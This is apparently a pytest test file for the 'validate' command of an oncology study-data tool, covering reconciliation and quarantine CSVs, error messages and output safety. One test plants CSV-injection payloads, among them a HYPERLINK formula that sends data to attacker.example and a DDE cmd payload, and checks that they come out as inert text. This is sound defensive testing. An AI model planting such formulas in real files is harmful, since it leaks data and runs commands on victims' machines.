"""``oncorwe validate DIR``: the reconciliation and quarantine summary, printed and written as CSV."""

from __future__ import annotations

import sys
from pathlib import Path

import polars as pl
import pytest
from study_builder import write_study
from typer.testing import CliRunner

from cli_runner import oncorwe
from oncorwe.cli.app import app, main


def test_validate_prints_and_writes_the_reconciliation_and_quarantine(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    study = write_study(tmp_path / "study")
    out = tmp_path / "out"
    monkeypatch.setenv("COLUMNS", "200")
    # the fixture's nl-broken centre sent a truncated workbook and binary junk: their records are not
    # counted, so validate ends with exit 2 naming each, after everything else is printed and written
    assert oncorwe(monkeypatch, "validate", str(study), "--out", str(out)) == 2
    printed = capsys.readouterr()
    assert "Reconciliation" in printed.out and "therapien.csv" in printed.out
    assert "duplicate of row 2" in printed.out
    assert "K001" not in printed.out + printed.err  # no patient identifiers on screen
    assert printed.err.splitlines() == [
        "error: centre nl-broken, file crf.xlsx: not a readable XLSX workbook (BadZipFile: File is not a zip file)",
        "error: centre nl-broken, file data.csv: not a text file (binary content); expected CSV/TSV text "
        '(UTF-16 or UTF-32 text without a byte-order mark: declare it, encoding = "utf-16-le" or "utf-32-le")',
    ]
    rec = pl.read_csv(out / "reconciliation.csv")
    assert (rec["records_read"] == rec["accepted"] + rec["quarantined"] + rec["merged"]).all()
    quarantine = pl.read_csv(out / "quarantine.csv")
    assert quarantine.height == 12
    assert {"centre_id", "file", "row", "field", "raw_value", "reason", "action"} <= set(quarantine.columns)
    assert (out / "column_map.csv").is_file()


def test_an_ambiguous_date_column_exits_2_with_one_line_naming_centre_file_column(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    study = tmp_path / "study"
    (study / "xx-one").mkdir(parents=True)
    (study / "centres.toml").write_text('[centres.xx-one]\nfiles = ["patients.csv"]\n', encoding="utf-8")
    (study / "xx-one" / "patients.csv").write_text(
        "patient_id,sex,diagnosis_date\n1,m,03/04/2012\n2,f,05/06/2013\n", encoding="utf-8"
    )
    monkeypatch.setattr(sys, "argv", ["oncorwe", "validate", str(study), "--out", str(tmp_path / "out")])
    with pytest.raises(SystemExit) as exited:
        main()
    assert exited.value.code == 2
    stderr = capsys.readouterr().err
    lines = stderr.strip().splitlines()
    assert len(lines) == 1
    assert "xx-one" in lines[0] and "patients.csv" in lines[0] and "'diagnosis_date'" in lines[0]
    assert 'date_order = "DMY"' in lines[0]
    assert "Traceback" not in stderr


def test_validate_writes_byte_identical_files_for_the_same_input(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    study = write_study(tmp_path / "study")
    for out in ("a", "b"):
        assert oncorwe(monkeypatch, "validate", str(study), "--out", str(tmp_path / out)) == 2  # nl-broken
    for name in ("reconciliation.csv", "quarantine.csv", "column_map.csv"):
        assert (tmp_path / "a" / name).read_bytes() == (tmp_path / "b" / name).read_bytes(), name


#: cell values a spreadsheet would run as formulas (OWASP CSV injection), planted in a centre's file
HOSTILE_FORMULAS = (
    '=HYPERLINK("http://attacker.example/?d="&A1;"details")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
)


def test_validate_writes_formula_cells_of_a_centre_as_text(tmp_path: Path) -> None:
    import csv
    import io

    from oncorwe.model.spreadsheet_csv import FORMULA_START

    study = tmp_path / "study"
    (study / "xx-one").mkdir(parents=True)
    (study / "centres.toml").write_text('[centres.xx-one]\nfiles = ["patients.csv"]\n', encoding="utf-8")
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(["patient_id", "sex", "birth_year", "diagnosis_date", "stage", "ecog"])
    for i, formula in enumerate(HOSTILE_FORMULAS):
        # the formula in a date, then in a number: each is quarantined with its raw value
        writer.writerow([f"D{i}", "m", "1950", formula, "IV", "1"])
        writer.writerow([f"E{i}", "m", "1950", "2012-05-06", "IV", formula])
    writer.writerow(["P9", "f", "1950", "2012-05-06", "IV", "-1"])  # a negative number stays a number
    (study / "xx-one" / "patients.csv").write_text(buffer.getvalue(), encoding="utf-8")

    out = tmp_path / "out"
    result = CliRunner().invoke(app, ["validate", str(study), "--out", str(out)])
    assert result.exit_code == 0, result.output
    with (out / "quarantine.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    raw = [row["raw_value"] for row in rows]
    for formula in HOSTILE_FORMULAS:
        assert raw.count("'" + formula) == 2, (formula, raw)  # the date and the ECOG cell
    assert "-1" in raw  # quarantined (ECOG 0-4) and written as the number it is
    for name in ("quarantine.csv", "reconciliation.csv", "column_map.csv"):
        with (out / name).open(encoding="utf-8", newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        assert [c for c in cells if c.startswith(FORMULA_START) and c != "-1"] == [], name


def test_validate_out_as_an_existing_file_exits_2_and_keeps_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    study = write_study(tmp_path / "study")
    out = tmp_path / "out.csv"
    out.write_text("precious", encoding="utf-8")
    monkeypatch.setattr(sys, "argv", ["oncorwe", "validate", str(study), "--out", str(out)])
    with pytest.raises(SystemExit) as exited:
        main()
    assert exited.value.code == 2
    err = capsys.readouterr().err
    assert "existing file" in err and "Traceback" not in err
    assert out.read_text(encoding="utf-8") == "precious"
